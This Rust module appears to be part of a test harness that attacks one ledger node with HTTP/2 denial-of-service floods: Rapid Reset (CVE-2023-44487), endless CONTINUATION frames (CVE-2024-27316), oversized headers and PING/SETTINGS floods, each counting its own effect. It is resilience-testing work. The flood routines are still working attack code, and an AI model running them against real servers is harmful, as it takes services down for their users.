//! What hostile clients do to one node. Each attack runs until it is told to stop, opens what was closed
//! again, and says how much of it there was.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt as _;

use crate::http2;

/// Told to everybody.
#[derive(Clone, Debug)]
pub struct Target {
    pub address: SocketAddr,
    /// Where the attacker calls from.
    pub from: Ipv4Addr,
    pub stop: Arc<AtomicBool>,
    pub counts: Arc<Counts>,
}

/// What was done so far.
#[derive(Debug, Default)]
pub struct Counts {
    /// By the attackers' own count, of whatever they do.
    pub done: AtomicU64,
    /// Transactions that were handed to a connection.
    pub offered: AtomicU64,
    /// Of these, what the node answered that it took,
    pub taken: AtomicU64,
    /// and what it answered that it refuses.
    pub refused: AtomicU64,
}

impl Target {
    pub fn goes_on(&self) -> bool {
        !self.stop.load(Ordering::Relaxed)
    }

    pub fn add(&self, count: u64) {
        self.counts.done.fetch_add(count, Ordering::Relaxed);
    }

    /// Waits, and not longer than the attack lasts.
    pub async fn wait(&self, time: Duration) {
        let begun = Instant::now();
        while self.goes_on() && begun.elapsed() < time {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

/// A pause before a connection is opened again: a node that closes at once must not spin the attacker.
pub const PAUSE: Duration = Duration::from_millis(20);
/// Streams of one connection are numbered up to here.
const STREAM_MAX: u32 = 1 << 30;

/// Opens streams and resets them at once (CVE-2023-44487).
pub async fn rapid_reset(target: Target) {
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let headers = http2::call("Ledger/GetNetwork");
        let flags = http2::END_HEADERS;
        let mut stream = 1;
        while target.goes_on() && stream < STREAM_MAX {
            let mut burst = Vec::new();
            for _ in 0..50 {
                burst.extend(http2::frame(http2::HEADERS, flags, stream, &headers));
                burst.extend(http2::frame(http2::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                stream += 2;
            }
            if socket.write_all(&burst).await.is_err() {
                break;
            }
            target.add(50);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Headers that never end (CVE-2024-27316).
pub async fn continuation(target: Target) {
    let mut block = Vec::new();
    http2::header(&mut block, b"x-flood", &[b'a'; 4_000]);
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let begin = http2::frame(http2::HEADERS, 0, 1, &http2::call("Ledger/Submit"));
        let more = http2::frame(http2::CONTINUATION, 0, 1, &block);
        let mut sent = socket.write_all(&begin).await;
        while sent.is_ok() && target.goes_on() {
            sent = socket.write_all(&more).await;
            target.add(1);
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Requests whose headers are far above the limit.
pub async fn huge_headers(target: Target) {
    let mut block = http2::call("Ledger/GetNetwork");
    for _ in 0..4 {
        http2::header(&mut block, b"x-flood", &[b'a'; 15_000]);
    }
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let mut stream = 1;
        let mut sent = Ok(());
        while sent.is_ok() && target.goes_on() && stream < STREAM_MAX {
            let (first, rest) = block.split_at(16_000);
            let mut request = http2::frame(http2::HEADERS, http2::END_STREAM, stream, first);
            let parts: Vec<&[u8]> = rest.chunks(16_000).collect();
            for (place, part) in parts.iter().enumerate() {
                let last = place + 1 == parts.len();
                let flags = if last { http2::END_HEADERS } else { 0 };
                request.extend(http2::frame(http2::CONTINUATION, flags, stream, part));
            }
            sent = socket.write_all(&request).await;
            target.add(1);
            stream += 2;
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Pings and empty settings, each of which asks for an answer that is never read.
pub async fn control_frames(target: Target) {
    let one = [
        http2::frame(http2::PING, 0, 0, &[7; 8]),
        http2::frame(http2::SETTINGS, 0, 0, &[]),
    ]
    .concat();
    let burst = one.repeat(100);
    while target.goes_on() {
        let Ok(mut socket) = http2::connect(target.address, target.from).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        while target.goes_on() {
            let sent = tokio::time::timeout(Duration::from_secs(1), socket.write_all(&burst)).await;
            // A node that no longer reads is as good as one that closed.
            if !matches!(sent, Ok(Ok(()))) {
                break;
            }
            target.add(200);
        }
        tokio::time::sleep(PAUSE).await;
    }
}
